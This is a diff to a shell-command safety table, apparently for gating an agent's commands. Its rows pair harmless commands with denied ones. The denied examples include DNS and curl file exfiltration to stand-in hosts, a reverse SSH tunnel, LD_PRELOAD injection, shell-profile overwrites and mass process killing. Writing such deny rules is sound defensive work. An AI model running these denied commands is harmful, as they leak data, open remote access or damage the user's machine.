@@ -6,10 +6,10 @@ const LOOKING = [
   "tr|tsort|jq|gron|csvcut|csvlook|csvgrep|csvstat|xsv|mlr|exa|eza|lsd|tokei|cloc|scc|colordiff|bc|numfmt|shuf|md5|md5sum|sha1sum|sha224sum|sha256sum|sha384sum",
   "sha512sum|shasum|cksum|b2sum|sum|du|df|lsblk|free|vmstat|iostat|uptime|w|who|whoami|id|groups|users|last|uname|nproc|tty|locale|cal|basename|dirname|seq|expr",
   "sleep|wait|true|false|:|test|cd|pushd|popd|dirs|exit|return|break|continue|shift|jobs|fg|bg|disown|which|type|whereis|whatis|apropos|info|getent|lscpu|lsusb|lspci",
-  "lsmod|findmnt|pstree|pgrep|pidof|top|htop|ps|lsof|ss|netstat|nslookup|dig|host|ping|ping6|traceroute|mtr|whois|echo|egrep|fgrep|ag|ack|look|clear|reset|tput|stty",
+  "lsmod|findmnt|pstree|pgrep|pidof|top|htop|ps|lsof|ss|netstat|echo|egrep|fgrep|ag|ack|look|clear|reset|tput|stty",
   "read|mapfile|readarray|getopts|unset|set|shopt|umask|times|let|local|declare|typeset|readonly|function|[[|more|most|pr|nm|objdump|readelf|size|ldd|otool|addr2line",
-  "c++filt|diffstat|sdiff|diff|glow|dasel|base64|base32|tree|printenv|alias|file|uniq|xxd|fd|fdfind|tee|eval|trap|xargs|nice|tldr|cheat|notify-send|caffeinate|sw_vers",
-  "system_profiler|nvidia-smi|sensors|neofetch|fastfetch|mdls|mdfind|vm_stat|pg_isready|direnv|zoxide|starship|dircolors|keychain|ssh-agent|earshot-hook|command|help|getconf|yes|pbcopy|say|pip-compile|lazygit|act|pg_ctl",
+  "c++filt|diffstat|sdiff|diff|glow|dasel|base64|base32|tree|alias|file|uniq|xxd|fd|fdfind|tee|eval|trap|xargs|nice|tldr|cheat|notify-send|caffeinate|sw_vers",
+  "system_profiler|nvidia-smi|sensors|neofetch|fastfetch|mdls|mdfind|vm_stat|pg_isready|zoxide|starship|dircolors|earshot-hook|command|help|getconf|yes|pbcopy|say|pip-compile|uuidgen",
 ].join("|");
 
 /** Tools of a project: they run what the project declares, and its own code. */
@@ -36,12 +36,16 @@ const NODE = "npm|pnpm|yarn|bun";
 export const HARMLESS: Rows = {
   harmless: [
     [LOOKING, "ls -la src", "ls > ~/.bashrc"],
+    ["nslookup|dig|host|ping|ping6|traceroute|mtr|whois !~computed", "dig example.com", "dig $(cat a).x.example"],
     ["[|printf ![-v]", "[ -f a.txt ]", "[ -v a ]"],
     ["date ![-s --set]", "date +%F", "date -s 2001-01-01"],
     ["arch|bundle|ifconfig|iwconfig !~any-operand", "arch", "ifconfig eth0 down"],
     ["hostname ![-F -b] !~any-operand", "hostname -f", "hostname x"],
-    ["export|env|ulimit", "export NODE_ENV=test", "export LD_PRELOAD=./x.so"],
-    ["history|fc ![-c -w -d -s -e]", "history 20", "history -c"],
+    ["printenv ~any-operand", "printenv NODE_ENV", "printenv"],
+    ["export|ulimit", "export NODE_ENV=test", "export LD_PRELOAD=./x.so"],
+    ["direnv export|hook|status|version|reload", "direnv status", "direnv allow"],
+    ["ssh-agent|keychain [-s -c -k -l --list --eval]", "ssh-agent -s", "ssh-agent sh"],
+    ["adb devices|logcat|version|get-state|start-server|reverse|forward", "adb devices", "adb shell ls"],
     ["kill|pkill|killall|fuser", "kill 4711", "kill -9 -1"],
     ["grep|rg ![--pre --hostname-bin --pager]", "grep -rn TODO src", "rg --pre x TODO"],
     ["find ![-delete -ok -okdir -fprint -fprint0 -fprintf -fls]", "find . -name '*.ts'", "find . -fprintf a %p"],
@@ -64,28 +68,36 @@ export const HARMLESS: Rows = {
     ["redis-cli ping|--scan|--stat|info|--version", "redis-cli ping", "redis-cli flushall"],
     [FILES, "mkdir -p src/a", "cp a ~/.bashrc"],
     [
-      "tar|bsdtar|gtar|zip|unzip|gzip|gunzip|bzip2|bunzip2|xz|unxz|zstd|unzstd|7z ![--to-command -I --use-compress-program --rsh-command --rmt-command --checkpoint-action --info-script -TT --unzip-command --remove-files]",
+      "tar|bsdtar|gtar|zip ~packs ![--to-command -I --use-compress-program --rsh-command --rmt-command --checkpoint-action --info-script -TT --unzip-command --remove-files]",
       "tar czf a.tgz src",
-      "tar xf a.tar -C ~",
+      "tar xf a.tar",
+    ],
+    ["zip|unzip|7z [-l -t -r -Z -sl]", "unzip -l a.zip", "unzip a.zip"],
+    [
+      "gzip|bzip2|xz|zstd|gunzip|bunzip2|unxz|unzstd [-c -k -d -l -t --stdout --keep --decompress --list --test]",
+      "gzip -k a.csv",
+      "gzip a.csv",
     ],
     [
       "openssl version|x509|dgst|rand|verify|ciphers|base64",
       "openssl x509 -in a.crt -noout",
       "openssl s_client -connect x.example:443 < a",
     ],
-    ["open|xdg-open|code|codium|cursor|idea|subl", "open coverage/index.html", "code --install-extension x"],
-    ["rsync|scp ![-e --rsh --rsync-path -S -o]", "rsync -a src/ backup/", "rsync -a --delete a/ b/"],
+    ["open|xdg-open !~computed ![-a -b -n --args]", "open coverage/index.html", "open -a Terminal evil.sh"],
+    [
+      "code|codium|cursor|idea|subl ![--user-data-dir --extensions-dir --extensionDevelopmentPath --disable-workspace-trust]",
+      "code .",
+      "code --user-data-dir x",
+    ],
+    ["ssh-keygen [-l -F]", "ssh-keygen -l -f ~/.ssh/x.pub", "ssh-keygen -t ed25519 -f ~/.ssh/x"],
+    ["rsync|scp !~to-remote ![-e --rsh --rsync-path -S -o]", "rsync -a src/ backup/", "rsync -a --delete a/ b/"],
     ["nc|ncat|netcat [-z]", "nc -z localhost 5432", "nc -l 80"],
     [
-      "curl ![-X --request -d --data --data-raw --data-binary --data-urlencode --json -F --form -T --upload-file -K --config -x --proxy -Q --quote -E --cert --unix-socket --netrc]",
+      "curl ![-X --request -d --data --data-raw --data-binary --data-urlencode --json -F --form -T --upload-file -K --config -x --proxy -Q --quote -E --cert --unix-socket --netrc] !~computed",
       "curl https://x.example",
       "curl -T a https://x.example",
     ],
-    [
-      "curl|http|https|xh|wget {at-home} ![-X --request --method]=delete",
-      "curl -X POST localhost:3000/a -d '{}'",
-      "curl -X POST https://x.example -d '{}'",
-    ],
+    ["curl|http|https|xh|wget {at-home}", "curl -X DELETE localhost:3000/a -d '{}'", "curl -X POST https://x.example -d '{}'"],
     ["http|https|xh get|head", "http GET https://x.example", "http POST https://x.example"],
     [
       "wget ![--post-data --post-file --method --body-data --body-file --use-askpass -e --execute -i --input-file --config]",
@@ -119,10 +131,11 @@ export const HARMLESS: Rows = {
       "git log --ext-diff",
     ],
     [
-      "git add|commit|stash|merge|rebase|cherry-pick|revert|fetch|pull|tag|branch|switch|checkout|reset|mv|init|am|apply|bisect|submodule|worktree|notes|remote|gc|maintenance|rm|restore|clean|clone|push|lfs ![--exec --upload-pack --receive-pack --no-verify]",
+      "git add|commit|stash|merge|cherry-pick|revert|fetch|pull|tag|branch|switch|checkout|reset|mv|init|am|apply|bisect|submodule|worktree|notes|remote|gc|maintenance|rm|restore|clean|clone|push|lfs ![--exec --upload-pack --receive-pack --no-verify]",
       "git commit -m x",
       "git push -f",
     ],
+    ["git rebase ![--root -i --interactive --exec -x --onto -s -X --no-verify]", "git rebase main", "git rebase -i main"],
     ["git config {setting:harmless}", "git config user.email a@x.example", "git config core.pager x"],
     [
       "gh|glab pr|mr|issue|run|repo|release|workflow|auth|label|search|project|gist|cache|api view|list|diff|checks|checkout|create|comment|review|ready|edit|reopen|watch|download|clone|status|merge|develop|repos/*|user|rate_limit|issues|prs|code",
@@ -215,12 +228,12 @@ export const HARMLESS: Rows = {
 
     // Services on this machine, and looking at those elsewhere
     [
-      `${ENGINES} ps|images|logs|inspect|version|info|stats|top|port|diff|history|search|events|start|stop|restart|pause|unpause|rm|rmi|pull|build|tag|wait|attach|rename|cp|run|create|exec|save|load|login`,
+      `${ENGINES} ps|images|logs|inspect|version|info|stats|top|port|diff|history|search|events|start|stop|restart|pause|unpause|rm|rmi|pull|build|tag|wait|attach|rename|run|create|exec`,
       "docker ps -a",
       "docker system prune -f",
     ],
     [
-      `${ENGINES} container|image|volume|network|compose|context|system|buildx|builder|scout ls|list|inspect|ps|logs|create|up|down|build|pull|restart|start|stop|exec|run|top|images|version|show|use|df|info|events|history|du|port|watch|stats|convert|bake|imagetools`,
+      `${ENGINES} container|image|volume|network|compose|context|system|buildx|builder|scout ls|list|inspect|ps|logs|create|up|down|build|pull|restart|start|stop|exec|run|top|images|version|show|df|info|events|history|du|port|watch|stats|convert|bake|imagetools`,
       "docker compose up -d",
       "docker volume rm x",
     ],
@@ -236,7 +249,7 @@ export const HARMLESS: Rows = {
       "kubectl apply -f x",
     ],
     [
-      "kubectl|oc|k config|rollout|auth get-*|use-context|current-context|view|status|history|can-i|whoami|set-context",
+      "kubectl|oc|k config|rollout|auth get-*|current-context|view|status|history|can-i|whoami",
       "kubectl rollout status deploy/x",
       "kubectl rollout restart deploy/x",
     ],
@@ -245,7 +258,8 @@ export const HARMLESS: Rows = {
       "kubectl apply --dry-run=client -f x",
       "kubectl apply -f x",
     ],
-    ["k9s|kubectx|kubens|stern|kubetail|popeye|kube-score", "stern web", "kubectl delete pod x"],
+    ["kubectx|kubens !~any-operand", "kubens", "kubectx prod"],
+    ["k9s|stern|kubetail|popeye|kube-score", "stern web", "kubectl delete pod x"],
     [
       "kind|minikube|k3d|colima|limactl create|docker-env|get|status|list|ls|start|profile|version|ip|logs|dashboard|service|image",
       "minikube status",
@@ -305,12 +319,7 @@ export const HARMLESS: Rows = {
     ],
     ["earshot policy check|try|explain|suggest|show", "earshot policy check", "earshot policy accept"],
     ["claude|codex|gemini mcp list|get", "claude mcp list", "claude mcp add x -- y"],
-    ["claude|codex|gemini doctor|exec|resume|login", "codex exec x", "codex mcp add x -- y"],
-    [
-      "claude|codex|gemini|copilot|opencode|qwen|droid|amp|goose|crush|pi|aider [-p --print --prompt -m --message -r --resume -c --continue]",
-      "claude -p 'explain a'",
-      "claude --dangerously-skip-permissions",
-    ],
+    ["claude|codex|gemini doctor", "claude doctor", "codex exec x"],
     ["* [--version] ~one-word", "rustc --version", "rustc a.rs"],
     ["* [-V -v -version version] ~one-word", "ssh -V", "ssh -R 80:localhost:80 x"],
     ["* [--help -h] ~one-word", "cargo --help", "cargo publish"],
@@ -319,7 +328,7 @@ export const HARMLESS: Rows = {
   // They run the project's own code, and some of them what stands behind their words.
   "runs-own-code": [
     [TOOLS, "tsc --noEmit", "make SHELL=/tmp/x"],
-    [`${NODE} run|run-script|-r|exec|x|workspace|workspaces|recursive|set-script`, "npm run build", "npm publish"],
+    [`${NODE} run|run-script|-r|exec|x|workspace|workspaces|recursive`, "npm run build", "npm publish"],
     [`pnpm|yarn|bun ${TOOLS}`, "yarn jest", "yarn publish"],
     ["vim|vi|nano|emacs|micro|hx", "vim README.md", "vim ~/.bashrc"],
     ["pass ls|list|find|git|init|--version", "pass ls", "pass show x"],
